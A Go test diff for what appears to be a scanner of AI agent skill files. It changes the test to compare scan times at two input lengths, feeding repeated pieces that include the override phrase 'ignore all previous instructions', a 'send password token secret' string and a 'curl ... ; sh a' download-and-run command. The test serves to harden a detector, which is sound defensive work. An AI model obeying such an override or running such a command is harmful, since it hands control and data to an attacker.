@@ -8,10 +8,16 @@ import (
 	"talaria/core/skill/scan"
 )
 
-// TestTimeIsInProportion scans texts that are made to be expensive. The bound
-// is far from what they take, and far below what anything quadratic would.
+// TestTimeIsInProportion scans texts that are made to be expensive, at two
+// lengths. What counts is how the times compare, so that a slow or busy machine
+// fails nothing: in proportion means four times, quadratic sixteen.
 func TestTimeIsInProportion(t *testing.T) {
-	const size = 50_000
+	const (
+		short, long = 5_000, 20_000
+		growth      = 10
+		negligible  = 20 * time.Millisecond
+		attempts    = 5
+	)
 	for name, piece := range map[string]string{
 		"pipes":           "a|",
 		"substitutions":   "$(a ",
@@ -27,24 +33,38 @@ func TestTimeIsInProportion(t *testing.T) {
 		"comments":        "<!-- a ",
 		"signs":           "ignore all previous instructions ",
 		"sends":           "send password token secret ",
+		"negations":       "never not without nothing tell user ",
 		"fences":          "```\na\n```\n",
 		"letters":         "a ",
 		"stars":           "**_",
 		"dashes":          "-",
 		"mail":            "a@",
+		"calls":           "a(b",
 		"brackets":        "[x](http://a.example/{",
 		"downloads":       "curl -o a https://a.example/a; sh a\n",
 		"shells":          "bash -c 'bash -c \"a\"' ",
 	} {
 		for _, frame := range []string{"", "```sh\n", "```python\n"} {
-			text := frame + strings.Repeat(piece, size/len(piece))
-			start := time.Now()
-			scan.Scan(scan.Skill, text)
-			if took := time.Since(start); took > 5*time.Second {
-				t.Errorf("%s in %q took %v", name, frame, took)
-			} else if took > 500*time.Millisecond {
-				t.Logf("%s in %q took %v", name, frame, took)
+			proportional := false
+			var first, second time.Duration
+			for range attempts {
+				first, second = scanTime(frame, piece, short), scanTime(frame, piece, long)
+				if proportional = second < negligible || second < growth*first; proportional {
+					break
+				}
+			}
+			if !proportional {
+				t.Errorf("%s in %q took %v, and four times as many %v", name, frame, first, second)
 			}
 		}
 	}
+}
+
+// scanTime is how long the scan of a text takes that repeats a piece up to a
+// size in bytes.
+func scanTime(frame, piece string, size int) time.Duration {
+	text := frame + strings.Repeat(piece, size/len(piece))
+	start := time.Now()
+	scan.Scan(scan.Skill, text)
+	return time.Since(start)
 }
